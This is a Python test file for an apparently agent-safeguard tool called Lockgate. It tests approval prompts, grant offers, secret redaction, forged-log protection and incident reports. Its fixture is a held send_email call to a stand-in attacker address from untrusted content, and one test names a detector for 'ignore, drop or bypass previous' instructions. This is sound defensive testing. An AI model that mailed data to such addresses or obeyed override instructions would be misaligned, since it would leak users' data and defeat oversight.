from __future__ import annotations

from time import time

import pytest

from lockgate.cli.ruling_story import clean, story_from_approval, story_from_incident, story_from_record
from lockgate.core.ruling.approvals import (
    Approval,
    ApprovalState,
    HeldFacts,
    PendingApproval,
    ShownDetails,
    bind_call,
)
from lockgate.core.vocabulary import Reason
from lockgate.journal.record_search import StoredRecord

FACTS = HeldFacts(effects=(("sends-message", "eve@attacker.example"),), names=("to",), widest="always", barred="")


def asked(reason: str = "untrusted-origin", state: str = "waiting", facts: HeldFacts = FACTS) -> Approval:
    bound = bind_call("s", "send_email", {"to": "eve@attacker.example"}, "sha256:p", "0" * 64)
    shown = ShownDetails(goal="Tidy up", reason=reason, risk="high", explanation="It is so.", facts=facts)
    return Approval(PendingApproval("3f9a1c20b7d4e856", bound, time(), time() + 60, shown), ApprovalState(state))


@pytest.mark.parametrize("reason", Reason)
def test_every_reason_for_a_pause_has_something_that_would_have_helped(reason: Reason) -> None:
    """Those of a pass never hold a call."""
    passing = {
        *(Reason.NO_UNTRUSTED_CONTENT, Reason.LOW_RISK_TOOL, Reason.NO_RED_FLAGS, Reason.TRIAGE_CLEARED),
        *(Reason.APPROVED, Reason.GRANTED, Reason.JUDGE_DOWN),
    }
    story = story_from_approval(asked(reason.value, "used"))
    assert bool(story.passes_if) is (reason not in passing)


def test_the_narrowest_grant_comes_first_and_only_where_one_may_be_made() -> None:
    offered = story_from_approval(asked())
    assert offered.offer is not None
    assert offered.offer.rule.span.value == "session"
    assert "lockgate approvals approve 3f9a1c20b7d4e856" in offered.grant
    barred = story_from_approval(asked(facts=HeldFacts(barred="it touches Lockgate itself")))
    assert (barred.offer, barred.grant) == (None, "none can be made: it touches Lockgate itself")
    ended = story_from_approval(asked(state="expired"))
    assert "lockgate approvals approve" not in ended.grant
    assert "when the agent tries again" in ended.grant


def test_a_secret_at_the_cut_is_still_removed() -> None:
    key = "sk-ant-api03-aaaaBBBBccccDDDDeeeeFFFFgggg1111222233334444"
    shown = clean(f"{'x' * 270} api_key={key} tail")
    assert "sk-ant" not in shown
    assert len(shown) <= 301


def test_a_forged_record_cannot_write_lines_of_its_own() -> None:
    fields = {
        "tool": "t\nrecord    │ fine",
        "risk": "high",
        "rules": [],
        "origins": [],
        "session": "s",
        "ts_ms": 0,
        "tier1_result": "pass",
        "tier2_by": "",
        "tier3_by": "",
        "approved_by": "",
        "approval": "",
        "action": "CONTINUE",
        "reason": "no-red-flags",
    }
    story = story_from_record(StoredRecord("log", 3, b"", fields), [])
    assert dict(story.lines)["record"].startswith("log 3")
    assert story.passes_if == ()


def test_an_incident_says_what_was_found_and_where_its_record_is() -> None:
    incident = "01M7N18WEYSBBS6KTAG5V8GDZP"
    fields = {
        "acted": f"unsafe:{incident}",
        "by": "local",
        "payload_sha256": "f" * 64,
        "reason": "rules",
        "rules": ["request:drop-instructions", "custom:1"],
        "strikes": 1,
        "subject": "472b8eeaad5c",
        "ts_ms": 0,
        "verdict": "unsafe",
    }
    told = dict(story_from_incident(incident, StoredRecord("log", 4, b"", fields), []).lines)
    assert told["why"].startswith("request:drop-instructions: ignore, drop or bypass previous")
    assert told["why"].endswith("custom:1: a pattern of this installation")
    assert told["then"].endswith("was then normal, strike 1")
    assert told["record"] == f"log 4; lockgate audit show {incident}"
